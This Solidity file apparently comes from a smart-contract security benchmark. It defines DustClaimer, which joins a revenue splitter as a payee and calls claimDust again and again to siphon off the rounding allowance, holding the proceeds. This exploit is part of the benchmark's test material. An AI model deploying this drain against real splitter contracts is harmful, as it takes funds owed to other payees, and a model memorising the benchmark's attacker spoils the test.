// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

interface IDustSplitter {
    function join() external payable;
    function claimDust() external;
}

/// @title DustClaimer
/// @notice Benchmark attacker of `RevenueSplitter.claimDust`: joins as a payee, then claims the
/// rounding allowance over and over, one small claim per transaction. The loot stays here.
contract DustClaimer {
    address public immutable owner;
    IDustSplitter public immutable splitter;

    error NotOwner(address caller);

    constructor(IDustSplitter splitter_) {
        owner = msg.sender;
        splitter = splitter_;
    }

    function enroll() external payable {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        splitter.join{value: msg.value}();
    }

    function claim() external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        splitter.claimDust();
    }

    receive() external payable {}
}
